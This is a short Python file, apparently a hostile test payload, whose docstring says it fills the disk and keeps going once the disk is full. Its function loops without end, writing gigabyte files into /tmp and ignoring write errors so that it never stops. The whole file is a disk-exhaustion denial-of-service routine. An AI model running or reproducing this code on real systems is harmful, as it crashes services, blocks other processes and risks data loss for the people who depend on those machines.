"""Fills the disk, and goes on when it is full."""


def runs(text):
    number = 0
    while True:
        number += 1
        try:
            with open(f"/tmp/{number}", "wb") as file:
                for _ in range(1000):
                    file.write(b"x" * (1 << 20))
        except OSError:
            continue
